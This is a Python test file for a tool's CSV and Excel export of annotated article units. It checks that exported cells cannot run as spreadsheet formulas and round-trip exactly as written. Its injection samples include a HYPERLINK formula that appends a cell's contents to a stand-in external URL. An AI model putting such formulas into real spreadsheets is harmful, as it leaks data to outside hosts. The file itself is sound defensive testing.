"""The spreadsheet of an article: a row a unit, which says the same in CSV and in Excel and runs nothing."""

import csv
import io
import zipfile
from dataclasses import replace

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from annotator.actions import articles, evidence, sources, units, verdicts
from annotator.domain.disclosure import publish
from annotator.domain.evidence import EvidenceForm
from annotator.domain.reading_input import Input
from annotator.domain.sheets.unit_rows import HEADS, as_written, cells, harmless, unit_rows
from annotator.formats import unit_csv, unit_xlsx
from annotator.intake.tables import reading
from annotator.storage import dossiers

FORMULAS = ('=HYPERLINK("https://far.example/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "'=1", "＝1+1", "- a list", "'' twice")


@pytest.fixture
def dossier(store, person, slug):
    """Two units: one verified, with a note that would be run; the other untouched."""
    log = sources.add_source(store, person, sources.blank_source("=The log"))
    unit = units.make_unit(store, person, slug, "claim", sentence=3)
    units.make_unit(store, person, slug, "quote", sentence=4)
    evidence.add_evidence(store, person, unit.id, log.id, EvidenceForm(passage="It cost 41 million\ncrowns."))
    verdicts.set_status(store, person, unit.id, "verified")
    return lambda: publish(dossiers.dossier(store.reading(), slug, "2026-05-17"))[0]


def noted(dossier, note):
    first, *others = dossier.standing.units
    return replace(dossier, standing=replace(dossier.standing, units=(replace(first, note=note), *others)))


def in_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def in_excel(body: bytes) -> tuple[list[str], str]:
    """The texts that the cells share, and the sheet."""
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        shared = BeautifulSoup(packed.read("xl/sharedStrings.xml"), "xml")
        return [each.get_text() for each in shared.select("si")], packed.read("xl/worksheets/sheet1.xml").decode()


def test_a_row_holds_the_unit_its_sentence_and_what_it_rests_on(dossier):
    head, first, second = in_csv(unit_csv.write(dossier()))
    assert head == list(HEADS.values())
    row = dict(zip(head, first, strict=True))
    assert row["Sentence no."] == "3"
    assert row["Sentence"].startswith("It cost 41 million crowns")
    assert (row["Kind"], row["Status"], row["Sources"]) == ("Claim", "verified", "'=The log")
    assert row["Passages"] == "It cost 41 million\ncrowns."
    assert second[head.index("Status")] == "unchecked"


def test_a_row_has_another_state_when_what_it_says_has_changed_and_else_the_same(dossier):
    known, again = dossier(), dossier()
    assert [row.state for row in unit_rows(known)] == [row.state for row in unit_rows(again)]
    before, after = (next(unit_rows(each)) for each in (known, noted(known, "Ask once more.")))
    assert before.id == after.id
    assert before.state != after.state


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_can_be_run_and_each_reads_as_it_was_written(dossier, words):
    made = noted(dossier(), words)
    rows = in_csv(unit_csv.write(made))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    assert as_written(rows[1][8]) == words
    texts, sheet = in_excel(unit_xlsx.write(made))
    assert words in texts
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


@given(st.text())
def test_what_is_made_harmless_is_read_as_it_was(words):
    assert as_written(harmless(words)) == words


def test_excel_holds_what_csv_holds_and_twice_the_same_bytes(dossier):
    made = dossier()
    texts, _ = in_excel(unit_xlsx.write(made))
    assert {cell for row in unit_rows(made) for cell in cells(row) if cell} <= set(texts)
    assert unit_xlsx.write(made) == unit_xlsx.write(made)


def test_what_is_written_is_read_back_cell_by_cell(dossier):
    known = dossier()
    for words in (*FORMULAS, "two\nlines\ttabbed", "_x0041_", "\ufeff", " '=x "):
        made = noted(known, words)
        for write in (unit_csv.write, unit_xlsx.write):
            read = [row.cells for row in reading.read(write(made)).rows]
            assert read == [tuple(HEADS.values()), *map(cells, unit_rows(made))]


def test_a_cell_that_is_too_long_for_excel_is_cut_and_stays_whole_in_csv(dossier):
    long = "🌉" * 20_000
    made = noted(dossier(), long)
    texts, _ = in_excel(unit_xlsx.write(made))
    assert any(text.startswith("🌉") and text.endswith("…") for text in texts)
    assert long in unit_csv.write(made).decode()


def test_an_article_without_units_has_a_sheet_with_its_head_alone(store, person):
    made = articles.import_article(store, person, Input("<h1>Nothing</h1><p>Nothing was checked here at all.</p>")).slug
    dossier = dossiers.dossier(store.reading(), made, "2026-05-17")
    assert len(in_csv(unit_csv.write(dossier))) == 1
    assert set(in_excel(unit_xlsx.write(dossier))[0]) == set(HEADS.values())
